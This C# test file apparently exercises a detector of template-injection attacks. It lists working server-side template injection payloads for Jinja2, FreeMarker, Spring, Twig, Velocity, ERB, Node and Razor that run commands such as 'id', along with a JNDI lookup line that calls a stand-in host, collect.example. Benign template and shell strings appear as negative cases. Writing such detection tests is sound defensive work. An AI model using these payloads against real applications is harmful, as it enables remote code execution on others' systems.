namespace AgentGate.Tests.Threats.Html;

public sealed class TemplateTests
{
    [Theory]
    [InlineData("{{7*7}}")]
    [InlineData("${7*7}")]
    [InlineData("${{7*7}}")]
    [InlineData("<%= 7*7 %>")]
    [InlineData("#{ 7 * 7 }")]
    [InlineData("{{7*'7'}}")]
    [InlineData("{{ ''.__class__.__mro__[1].__subclasses__() }}")]
    [InlineData("{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}")]
    [InlineData("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}")]
    [InlineData("${T(java.lang.Runtime).getRuntime().exec('id')}")]
    [InlineData("${\"freemarker.template.utility.Execute\"?new()(\"id\")}")]
    [InlineData("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}")]
    [InlineData("{{_self.env.getFilter(\"id\")}}")]
    [InlineData("{{['id']|map('system')|join}}")]
    [InlineData("{system('id')}")]
    [InlineData("#set($x=$class.inspect(\"java.lang.Runtime\").type)")]
    [InlineData("<%= system('id') %>")]
    [InlineData("<%= `id` %>")]
    [InlineData("#{root.process.mainModule.require('child_process').execSync('id')}")]
    [InlineData("{{constructor.constructor('alert(1)')()}}")]
    [InlineData("${jndi:ldap://collect.example/a}")]
    [InlineData("@{ var x = System.Diagnostics.Process.Start(\"cmd.exe\"); }")]
    public void An_expression_that_leaves_its_template_is_caught(string text) => Judge.Caught(text);

    [Theory]
    [InlineData("@(1+2)")]
    [InlineData("*{7*7}")]
    [InlineData("{{config}}")]
    [InlineData("{{config.items()}}")]
    [InlineData("{$smarty.version}")]
    [InlineData("{{'a'.toUpperCase()}}")]
    [InlineData("{% debug %}")]
    public void A_probe_that_pages_may_hold_too_counts_in_arguments(string text)
    {
        Judge.CaughtAsArgument(text);
        Judge.CleanInChat(text);
    }

    [Theory]
    [InlineData("hello {{name}}")]
    [InlineData("cost is ${price}")]
    [InlineData("{{ user.name | upper }}")]
    [InlineData("{{ item.price * 2 }}")]
    [InlineData("{% for item in items %}{{ item }}{% endfor %}")]
    [InlineData("<%= render 'form' %>")]
    [InlineData("for f in *; do mv \"$f\" \"${f%.txt}.bak\"; echo ${#f} ${1-10} ${a[$((COLUMN - 1))]}; done")]
    [InlineData("{% $NUM_VIEWS|STRING_FORMAT:\"%D\" %} views")]
    [InlineData("return '<%s instance at %x>' % (x.__class__.__name__, id(x))")]
    [InlineData("function(e){if(null===e)return e;var t=e.constructor();return t}")]
    [InlineData("comby '{{assert_eq!(:[a], :[b])}}' .rs")]
    [InlineData("\\frac{{1+2}}{3}")]
    public void Names_filters_and_other_languages_are_no_attack(string text) => Judge.Clean(text);
}
